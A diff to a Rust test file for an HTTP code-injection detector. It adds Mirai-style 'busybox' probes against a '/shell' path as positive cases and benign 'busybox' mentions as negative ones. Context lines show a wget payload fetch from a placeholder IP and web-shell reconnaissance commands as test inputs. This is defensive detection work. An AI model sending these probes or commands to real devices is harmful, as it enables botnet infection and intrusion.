@@ -492,6 +492,11 @@ fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
         Some("cd+/tmp;wget+http://198.51.100.1/m"),
         None
     ));
+    // A bare command sent to a path named for a shell: Mirai's `busybox` check of a DVR's
+    // backdoor (heldout116, heldout121), with its marker word too.
+    assert!(code("/shell", Some("busybox"), None));
+    assert!(code("/SHELL", Some("busybox%20MIRAI"), None));
+    assert!(code("/shell", Some("/bin/busybox+ECCHI"), None));
     // A command parameter holding a command line, or a reconnaissance command, sent to a
     // script: a device CGI, a web shell dropped in uploads.
     assert!(code(
@@ -518,6 +523,10 @@ fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
         ("/php/connector.php", Some("cmd=ls&target=l1_Lw"), None),
         ("/search.php", Some("q=uname+-a"), None),
         ("/docs/shell", Some("topic=rm%20command"), None),
+        // A bare command word elsewhere: a wiki page, a manual page (the review's cases).
+        ("/wiki", Some("BusyBox"), None),
+        ("/cgi-bin/man/man2html", Some("busybox"), None),
+        ("/shellfish", Some("busybox"), None),
         ("/api/v1/templates", Some("body=Hello+%24%7Bname%7D"), None),
         (
             "/",
